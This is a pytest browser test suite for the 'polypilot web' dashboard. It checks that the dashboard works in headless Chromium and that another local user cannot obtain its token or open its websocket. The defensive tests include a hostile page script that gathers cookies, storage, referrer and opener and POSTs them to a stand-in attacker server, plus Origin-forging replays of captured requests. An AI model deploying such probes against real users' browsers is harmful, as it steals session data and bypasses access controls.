"""``polypilot web`` in a real headless Chromium: the dashboard works, and no one else gets in.

The browser is Debian's ``chromium`` driven through ``chromium-driver`` by selenium (never a
downloaded browser). The page's terminal is xterm.js drawing on a canvas, so the tests read
what the page received instead: a script installed before the page's own wraps ``WebSocket``,
keeps the address of every websocket the page opens and the text of every frame the dashboard
sent. The first test types a prompt and sees the reply (also in the state folder's history);
the others take the part of another local user: a server of theirs on another port of
127.0.0.1 that the same browser visits, a replay of whatever it received, websockets opened
with a spent page key, none, or from their page. Every wait is bounded; the servers and the
browser are stopped by the test. Without chromium the tests are skipped, except with
``CI=true``, where they fail.
"""

from __future__ import annotations

import asyncio
import http.server
import json
import os
import queue
import re
import shutil
import signal
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import aiohttp
import pytest

from polypilot_tui.storage.lock import lock_holder
from tests.support.engine_service import engine_env, short_state_dir
from tests.support.waiting import until_blocking
from tests.workspace.repos import make_repo

pytestmark = [pytest.mark.e2e, pytest.mark.slow, pytest.mark.timeout(180)]

ROOT = Path(__file__).parents[2]
PROMPT = "hi from chromium"  # three words or fewer: the demo agent's plain chat reply
CHROMIUM_FLAGS = (
    "--headless=new",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-dev-shm-usage",
    "--window-size=1400,900",
)
# Keeps the address of every websocket the page opens, and the text of every frame it receives.
RECORD_FRAMES = """
(() => {
  const Native = window.WebSocket;
  const decoder = new TextDecoder();
  window.__terminalText = "";
  window.__sockets = [];
  window.WebSocket = function (url, protocols) {
    const socket = protocols === undefined ? new Native(url) : new Native(url, protocols);
    window.__sockets.push(String(url));
    socket.addEventListener("message", (event) => {
      if (typeof event.data !== "string") {
        window.__terminalText += decoder.decode(new Uint8Array(event.data), { stream: true });
      }
    });
    return socket;
  };
  window.WebSocket.prototype = Native.prototype;
})();
"""
# Opens a websocket from the page the browser is on: "opened" or "refused".
TRY_WEBSOCKET = """
const [url, done] = arguments;
const socket = new WebSocket(url);
socket.onopen = () => { socket.close(); done("opened"); };
socket.onerror = () => done("refused");
"""
ESCAPES = re.compile(
    r"\x1b\[[0-9;?<>=]*[ -/]*[@-~]|\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)|\x1b[()][0-9A-Za-z]|\x1b[=>78DEMc]"
)
TOKEN_IN_URL = re.compile(r"token=([\w-]+)")
SECRET_SHAPED = re.compile(r"[A-Za-z0-9_-]{20,}")


def in_ci() -> bool:
    return os.environ.get("CI", "").strip().lower() in ("true", "1", "yes")


def browser_binaries() -> tuple[str, str]:
    """Chromium and its driver from the system; skip (fail on CI) when absent."""
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    driver = shutil.which("chromedriver")
    try:
        import selenium  # noqa: F401
    except ImportError:
        chromium = None
    if chromium is None or driver is None:
        message = "chromium, chromium-driver or selenium is missing (apt-get install chromium chromium-driver)"
        if in_ci():
            pytest.fail(f"{message} (CI=true: the browser test must run)")
        pytest.skip(message)
    return chromium, driver


def start_chromium(profile: Path) -> Any:
    """A headless Chromium with its own profile, recording the page's websockets from the start."""
    chromium, chromedriver = browser_binaries()
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    options.binary_location = chromium
    for flag in (*CHROMIUM_FLAGS, f"--user-data-dir={profile}"):
        options.add_argument(flag)
    driver = webdriver.Chrome(options=options, service=Service(executable_path=chromedriver))
    driver.set_page_load_timeout(30)
    driver.set_script_timeout(15)
    driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": RECORD_FRAMES})
    return driver


def new_tab(driver: Any) -> None:
    """A new tab, the browser's focus, recording its websockets too (the script is per tab)."""
    driver.switch_to.new_window("tab")
    driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": RECORD_FRAMES})


def screen(driver: Any) -> str:
    """The text the dashboard sent to the page the browser is on (escape sequences removed)."""
    return ESCAPES.sub("", driver.execute_script("return window.__terminalText || ''"))


def wait_for_dashboard(driver: Any) -> None:
    until_blocking(lambda: "type a prompt" in screen(driver), 45, "the dashboard to draw", every=0.2)


def history(state: Path) -> list[tuple[str, str]]:
    """Every (kind, text) row saved in the state folder's history, oldest first."""
    if not (state / "history.db").exists():
        return []
    conn = sqlite3.connect(f"file:{state / 'history.db'}?mode=ro", uri=True)
    try:
        return conn.execute("SELECT kind, text FROM items ORDER BY session_id, idx").fetchall()
    except sqlite3.OperationalError:
        return []
    finally:
        conn.close()


def start_server(state: Path, home: Path) -> tuple[subprocess.Popen[str], queue.Queue[str], dict[str, str]]:
    """``polypilot web`` in a process group of its own (its dashboards join it), and its env."""
    # This checkout's package, in the server, the dashboards it starts and their engine.
    env = engine_env(state, {"HOME": str(home), "PYTHONPATH": str(ROOT), "PYTHONUNBUFFERED": "1"})
    proc = subprocess.Popen(
        [sys.executable, "-m", "polypilot_tui", "web"],
        cwd=home,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        start_new_session=True,
    )
    lines: queue.Queue[str] = queue.Queue()
    threading.Thread(target=lambda: [lines.put(line) for line in proc.stdout or []], daemon=True).start()
    return proc, lines, env


def printed_url(lines: queue.Queue[str], output: list[str]) -> str:
    """The address ``polypilot web`` printed (what it printed so far is kept in ``output``)."""

    def found() -> str | None:
        while not lines.empty():
            output.append(lines.get_nowait())
        return next((line.strip() for line in output if line.startswith("http://")), None)

    url: str = until_blocking(found, 20, "the printed URL", every=0.2)
    return url


def stop_server(proc: subprocess.Popen[str]) -> None:
    """SIGTERM, as ctrl+c would; SIGKILL to the whole group if it does not end in time."""
    if proc.poll() is None:
        proc.send_signal(signal.SIGTERM)
        try:
            proc.wait(15)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait(5)


def process_group(pgid: int) -> list[int]:
    """The live processes of a process group (from /proc; zombies excluded)."""
    members = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except (OSError, IndexError):
            continue
        if int(fields[2]) == pgid and fields[0] != "Z":
            members.append(int(stat.parent.name))
    return members


def stop_engine(state: Path, env: dict[str, str]) -> None:
    """The engine the dashboard started detached outlives it by design: stop it, and wait."""
    if lock_holder(state) is not None:
        subprocess.run([sys.executable, "-m", "polypilot_tui", "engine", "stop"], env=env, timeout=60, check=False)
    until_blocking(lambda: lock_holder(state) is None, 30, "the engine to stop", every=0.2)


@pytest.fixture
def state() -> Iterator[Path]:
    """The state folder: short, since the engine's Unix socket lives in it; removed after."""
    folder = short_state_dir()
    try:
        yield folder
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def test_a_prompt_typed_in_the_browser_gets_the_demo_agents_reply(state: Path, tmp_path: Path) -> None:
    browser_binaries()
    from selenium.webdriver.common.action_chains import ActionChains
    from selenium.webdriver.common.keys import Keys

    started = time.monotonic()
    home = make_repo(tmp_path / "home")  # where the page's first session works: a checkout, changed
    (home / "README.md").write_text("hello\nfrom the browser\n")
    proc, lines, env = start_server(state, home)
    output: list[str] = []
    driver = None
    try:
        url = printed_url(lines, output)
        assert re.fullmatch(r"http://127\.0\.0\.1:\d+/#token=[\w-]{40,}", url), url
        driver = start_chromium(tmp_path / "chromium")
        driver.get(url)
        wait_for_dashboard(driver)
        # The prompt's placeholder ends in "↑ history" only when the dashboard is wider than 80
        # columns: it must take the browser's width (COLUMNS), not the 80 of a missing terminal.
        until_blocking(lambda: "↑ history" in screen(driver), 10, "the dashboard to use the page's width", every=0.2)
        driver.execute_script("document.querySelector('.xterm-helper-textarea').focus()")
        ActionChains(driver).send_keys(PROMPT).perform()
        ActionChains(driver).send_keys(Keys.ENTER).perform()
        try:
            until_blocking(
                lambda: "runs offline" in screen(driver).split(PROMPT, 1)[-1], 30, "the reply on the page", every=0.2
            )
        except AssertionError:
            driver.save_screenshot(str(tmp_path / "web-failed.png"))
            (tmp_path / "web-failed.txt").write_text(screen(driver))
            raise AssertionError(f"no reply on the page; see {tmp_path}/web-failed.png and .txt") from None
        rows = until_blocking(
            lambda: [r for r in history(state) if r[0] == "assistant"], 15, "the reply in the history", every=0.2
        )
        assert f"You said: **{PROMPT}**" in rows[-1][1]
        assert ("user", PROMPT) in history(state)
        # The diff view: read by the engine, drawn in the page's dashboard.
        ActionChains(driver).key_down(Keys.CONTROL).send_keys("o").key_up(Keys.CONTROL).perform()
        until_blocking(
            lambda: "from the browser" in screen(driver).partition("Changes of")[2], 20, "the diff view on the page"
        )
        driver.save_screenshot(str(tmp_path / "web.png"))
        print(f"browser test: reply after {time.monotonic() - started:.1f}s; screenshot {tmp_path / 'web.png'}")
    finally:
        # The server first, while the page is still connected: its dashboard must be told to quit.
        stop_server(proc)
        if driver is not None:
            driver.quit()
        engine_outlived_the_page = lock_holder(state) is not None
        stop_engine(state, env)
    assert proc.returncode == 0, "".join(output)
    assert engine_outlived_the_page  # the page's dashboard attached to an engine, which keeps the sessions
    # Its dashboards went with the server (told to quit, not left behind).
    until_blocking(lambda: process_group(proc.pid) == [], 10, "the dashboards to quit with the server", every=0.2)
    token = url.split("token=", 1)[1]
    written = [p for p in state.rglob("*") if p.is_file() and token.encode() in p.read_bytes()]
    assert written == [], f"the token was written to {written}"
    assert sum(token in line for line in output) == 1  # printed once, in the URL


# -- Another local user ---------------------------------------------------------------------------


@dataclass
class Served:
    """A running ``polypilot web`` and what it printed."""

    url: str
    """The printed address."""
    token: str
    public_url: str
    """``http://127.0.0.1:PORT``: the page's origin."""
    proc: subprocess.Popen[str]

    @property
    def ws_url(self) -> str:
        return "ws:" + self.public_url.split(":", 1)[1]


@pytest.fixture
def served(state: Path, tmp_path: Path) -> Iterator[Served]:
    """``polypilot web`` on a free port, stopped after the test (and the engine its pages started)."""
    browser_binaries()
    home = tmp_path / "home"
    home.mkdir()
    proc, lines, env = start_server(state, home)
    output: list[str] = []
    try:
        url = printed_url(lines, output)
        token = TOKEN_IN_URL.search(url)
        assert token is not None, url
        public_url = re.match(r"http://[^/]+", url)
        assert public_url is not None, url
        yield Served(url, token[1], public_url[0], proc)
    finally:
        stop_server(proc)
        stop_engine(state, env)


@pytest.fixture
def browser(served: Served, tmp_path: Path) -> Iterator[Any]:
    driver = start_chromium(tmp_path / "chromium")
    try:
        yield driver
    finally:
        driver.quit()


# The other user's page: what a page of theirs can learn where it runs, reported to its server.
OTHER_PAGE = b"""<!doctype html><html><body><p>another user's page</p><img src="/pixel"><script>
(async () => {
  let opener = "none";
  try { opener = window.opener === null ? "none" : "a handle on the page that opened this one"; }
  catch (e) { opener = "a handle on the page that opened this one"; }
  await fetch("/probe", { credentials: "include" }).catch(() => null);
  const seen = {
    opener, referrer: document.referrer, cookie: document.cookie, name: window.name,
    session: JSON.stringify(Object.assign({}, sessionStorage)),
    local: JSON.stringify(Object.assign({}, localStorage)),
  };
  await fetch("/report", { method: "POST", body: JSON.stringify(seen) });
})();
</script></body></html>"""


@dataclass
class Received:
    """One request the other user's server received, whole."""

    line: str
    headers: list[tuple[str, str]]
    body: bytes

    @property
    def raw(self) -> str:
        lines = [self.line, *(f"{k}: {v}" for k, v in self.headers)]
        return "\n".join(lines) + "\n\n" + self.body.decode("utf-8", "replace")


@dataclass
class OtherUsersServer:
    """An HTTP server another local user runs on another port of 127.0.0.1: it keeps every request."""

    server: http.server.ThreadingHTTPServer
    received: list[Received] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    def reports(self) -> list[dict[str, str]]:
        return [json.loads(r.body) for r in list(self.received) if r.line.startswith("POST /report ")]


@pytest.fixture
def other_user() -> Iterator[OtherUsersServer]:
    keeper: list[Received] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def keep(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(min(length, 1 << 20))
            keeper.append(Received(self.requestline, list(self.headers.items()), body))
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(OTHER_PAGE if self.command == "GET" else b"")

        def do_GET(self) -> None:
            self.keep()

        def do_POST(self) -> None:
            self.keep()

        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield OtherUsersServer(server, keeper)
    finally:
        server.shutdown()
        server.server_close()


HOP_BY_HOP = {"host", "content-length", "connection", "upgrade", "keep-alive", "transfer-encoding"}


def replay(served: Served, headers: list[tuple[str, str]], secrets: set[str]) -> dict[str, int]:
    """What ``polypilot web`` answers a client that sends ``headers`` (and the page's Origin,
    which a client that is not a browser may send) to get a page key and to open the websocket,
    bare or with each of ``secrets`` as the page key or as the token: every status."""
    kept = [(k, v) for k, v in headers if k.lower() not in HOP_BY_HOP and not k.lower().startswith("sec-websocket")]
    forged = [*kept, ("Origin", served.public_url)]

    async def answers() -> dict[str, int]:
        statuses: dict[str, int] = {}
        async with aiohttp.ClientSession() as http:

            async def post_key(name: str, extra: list[tuple[str, str]]) -> None:
                async with http.post(f"{served.public_url}/key", headers=[*forged, *extra]) as answer:
                    statuses[name] = answer.status

            async def websocket(name: str, path: str) -> None:
                try:
                    socket = await http.ws_connect(f"{served.ws_url}{path}?width=80&height=24", headers=forged)
                except aiohttp.WSServerHandshakeError as refused:
                    statuses[name] = refused.status
                else:
                    statuses[name] = 101
                    await socket.close()

            await post_key("POST /key", [])
            await websocket("/ws", "/ws")
            for secret in sorted(secrets):
                await post_key(f"POST /key as Bearer {secret[:8]}…", [("Authorization", f"Bearer {secret}")])
                await websocket(f"/ws/{secret[:8]}…", f"/ws/{secret}")
        return statuses

    return asyncio.run(answers())


def our_processes(state: Path) -> dict[int, bytes]:
    """Each process of this test's state folder (the server, its dashboards, the engine): its
    command line and environment, as /proc shows them."""
    marker = f"POLYPILOT_STATE_DIR={state}".encode()
    found = {}
    for proc in Path("/proc").glob("[0-9]*"):
        try:
            environ = (proc / "environ").read_bytes()
            cmdline = (proc / "cmdline").read_bytes()
        except OSError:
            continue
        if marker in environ.split(b"\0"):
            found[int(proc.name)] = cmdline + b"\0" + environ
    return found


def test_a_server_on_another_port_the_browser_visits_gets_nothing_that_opens_the_dashboard(
    served: Served, browser: Any, other_user: OtherUsersServer, state: Path
) -> None:
    browser.get(served.url)
    wait_for_dashboard(browser)
    ours = browser.current_window_handle
    # The browser meets the other user's server: a link the dashboard opens in a new tab
    # (textual-serve's open_url), a link in the terminal (xterm.js opens a blank window, cuts
    # its opener, then sends it there), an address typed in a new tab, and the dashboard's own
    # tab leaving for it.
    browser.execute_script("window.open(arguments[0], '_blank')", f"{other_user.url}/a-link")
    browser.execute_script(
        "const w = window.open(); w.opener = null; w.location.href = arguments[0]", f"{other_user.url}/a-terminal-link"
    )
    new_tab(browser)
    browser.get(f"{other_user.url}/typed")
    browser.switch_to.window(ours)
    browser.execute_script("window.location.href = arguments[0]", f"{other_user.url}/same-tab")
    until_blocking(
        lambda: len(other_user.reports()) >= 4, 20, "the other user's page to report from each visit", every=0.2
    )

    received = list(other_user.received)
    assert {r.line.split()[1] for r in received} >= {"/a-link", "/a-terminal-link", "/typed", "/same-tab"}
    leaked = [r.raw for r in received if served.token in r.raw]
    assert leaked == [], f"the other user's server received the token:\n{leaked[0]}"
    assert [r.raw for r in received if any(k.lower() == "cookie" for k, _ in r.headers)] == []
    referers = [v for r in received for k, v in r.headers if k.lower() == "referer"]
    assert [v for v in referers if not v.startswith(other_user.url)] == []  # ours never
    for seen in other_user.reports():
        assert seen["opener"] == "none", seen  # no handle on our page (it could navigate it)
        assert (seen["referrer"], seen["cookie"], seen["name"]) == ("", "", ""), seen
        assert seen["session"] == seen["local"] == "{}", seen
    # Whatever it received, replayed against our server by a client that forges the Origin: refused.
    secrets = {m for r in received for m in SECRET_SHAPED.findall(r.raw)}
    for r in received:
        answers = replay(served, r.headers, secrets)
        assert set(answers.values()) == {403}, (r.line, answers)

    # Another local user reads every process's command line (and root, its environment): the
    # server's, its dashboards' and the engine's hold no token.
    new_tab(browser)
    browser.get(served.url)
    wait_for_dashboard(browser)
    processes = our_processes(state)
    assert len(processes) >= 3, processes  # the server, a dashboard, the engine
    assert [pid for pid, seen in processes.items() if served.token.encode() in seen] == []
    used = browser.execute_script("return window.__sockets")[-1]
    assert [pid for pid, seen in processes.items() if used.rsplit("/", 1)[-1].encode() in seen] == []


def test_the_token_leaves_the_address_bar_and_a_reload_still_opens_the_dashboard(served: Served, browser: Any) -> None:
    browser.get(served.url)
    wait_for_dashboard(browser)
    assert browser.current_url == f"{served.public_url}/"
    assert browser.execute_script("return location.href") == f"{served.public_url}/"
    # While the page lives, the token is in no storage a window it opens would get a copy of.
    assert served.token not in browser.execute_script("return JSON.stringify(Object.assign({}, sessionStorage))")

    browser.refresh()
    wait_for_dashboard(browser)
    assert browser.current_url == f"{served.public_url}/"
    sockets = browser.execute_script("return window.__sockets")
    assert len(sockets) == 1 and served.token not in sockets[0], sockets
    # A working dashboard: a key typed on the page reaches it (ctrl+n opens the new-session dialog).
    from selenium.webdriver.common.action_chains import ActionChains
    from selenium.webdriver.common.keys import Keys

    browser.execute_script("document.querySelector('.xterm-helper-textarea').focus()")
    ActionChains(browser).key_down(Keys.CONTROL).send_keys("n").key_up(Keys.CONTROL).perform()
    until_blocking(lambda: "New session" in screen(browser), 15, "the new-session dialog", every=0.2)

    # A window the dashboard opens gets a copy of its tab's storage: no token in it.
    browser.execute_script("window.open(arguments[0], '_blank')", f"{served.public_url}/")
    browser.switch_to.window(browser.window_handles[-1])
    until_blocking(
        lambda: "Open the address `polypilot web` printed" in browser.find_element("tag name", "body").text,
        15,
        "the opened page to ask for the printed address",
        every=0.2,
    )

    # The bare address in a tab of its own (no token there): no dashboard, and the page says why.
    new_tab(browser)
    browser.get(f"{served.public_url}/")
    until_blocking(
        lambda: "Open the address `polypilot web` printed" in browser.find_element("tag name", "body").text,
        15,
        "the page to ask for the printed address",
        every=0.2,
    )
    assert browser.execute_script("return window.__sockets") == []

    # The address typed with localhost (which Chromium tries on ::1 first, held by the server
    # too): sent to the canonical address, the token's fragment kept on the way, then dropped.
    new_tab(browser)
    browser.get(served.url.replace("//127.0.0.1:", "//localhost:"))
    keyed = until_blocking(
        lambda: browser.execute_script("return window.__sockets"), 15, "the page's websocket", every=0.2
    )
    assert keyed[0].startswith(f"{served.ws_url}/ws/"), keyed  # the page had its key
    assert browser.current_url == f"{served.public_url}/"


def test_a_websocket_without_a_fresh_key_of_this_page_or_from_another_origin_is_refused(
    served: Served, browser: Any, other_user: OtherUsersServer
) -> None:
    browser.get(served.url)
    wait_for_dashboard(browser)
    used = browser.execute_script("return window.__sockets")

    def attempt(url: str) -> str:
        answer: str = browser.execute_async_script(TRY_WEBSOCKET, url)
        return answer

    def fresh_key_url() -> str:
        """A new page key, as the page's script gets one (the token, and the page's Origin)."""
        headers = {"Authorization": f"Bearer {served.token}", "Origin": served.public_url}

        async def post() -> str:
            async with aiohttp.ClientSession() as http, http.post(f"{served.public_url}/key", headers=headers) as got:
                assert got.status == 200, await got.text()
                return str((await got.json())["websocket"])

        return asyncio.run(post())

    assert attempt(used[0]) == "refused"  # the page's own key, once spent
    assert len(used) == 1 and re.fullmatch(rf"{served.ws_url}/ws/[\w-]{{40,}}\?width=\d+&height=\d+", used[0]), used
    assert attempt(f"{served.ws_url}/ws?width=80&height=24") == "refused"  # none
    assert attempt(f"{served.ws_url}/ws/{'A' * 43}?width=80&height=24") == "refused"  # made up
    assert attempt(f"{served.ws_url}/ws/{served.token}?width=80&height=24") == "refused"  # the token is no key

    # A good key, from the other user's page: refused for its Origin alone — the same key then
    # opens from this page, and only once.
    key_url = fresh_key_url() + "?width=80&height=24"
    ours = browser.current_window_handle
    new_tab(browser)
    browser.get(f"{other_user.url}/")
    assert attempt(key_url) == "refused"
    browser.switch_to.window(ours)
    assert attempt(key_url) == "opened"
    assert attempt(key_url) == "refused"


def command_lines_holding(secret: str) -> list[str]:
    """Every process's command line (what any user of the machine reads in ``ps``) holding ``secret``."""
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            argv = cmdline.read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
        except OSError:
            continue
        if secret in argv:
            found.append(f"{cmdline.parent.name}: {argv[:200]}")
    return found


def test_a_browser_started_with_the_printed_page_opens_the_dashboard_and_no_command_line_holds_the_token(
    state: Path, tmp_path: Path
) -> None:
    """A terminal's link or ``xdg-open ADDRESS`` starts the browser with the address in its
    command line, which every local user reads in ``ps`` (no hidepid on most machines): with the
    token there, another user would open the dashboard. The printed page holds it instead."""
    chromium, _ = browser_binaries()
    home = tmp_path / "home"
    home.mkdir()
    proc, lines, env = start_server(state, home)
    output: list[str] = []
    browser: subprocess.Popen[bytes] | None = None
    try:
        url = printed_url(lines, output)
        token = TOKEN_IN_URL.search(url)
        assert token is not None, url
        page = next((line.strip() for line in output if line.startswith("file://")), "")
        assert page, f"no page to open was printed: {output}"
        opener = Path(page.removeprefix("file://"))
        assert opener.parent == state.resolve() and opener.lstat().st_mode & 0o777 == 0o600
        assert token[1] in opener.read_text()
        assert process_group(proc.pid) == [proc.pid]  # no dashboard before a page opens one
        browser = subprocess.Popen(
            [chromium, *CHROMIUM_FLAGS, f"--user-data-dir={tmp_path / 'chromium'}", page],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        # The page got the token from the file and a page key for it: its dashboard runs.
        until_blocking(lambda: len(process_group(proc.pid)) > 1, 45, "the page's dashboard process", every=0.2)
        assert command_lines_holding(token[1]) == []
        # Its engine up before the clean-up: one still starting when it looked was left running.
        until_blocking(lambda: lock_holder(state) is not None, 45, "the dashboard's engine", every=0.2)
    finally:
        if browser is not None:
            os.killpg(browser.pid, signal.SIGKILL)
            browser.wait(10)
        stop_server(proc)
        stop_engine(state, env)
    assert not opener.exists(), "the page with the token outlived the server"
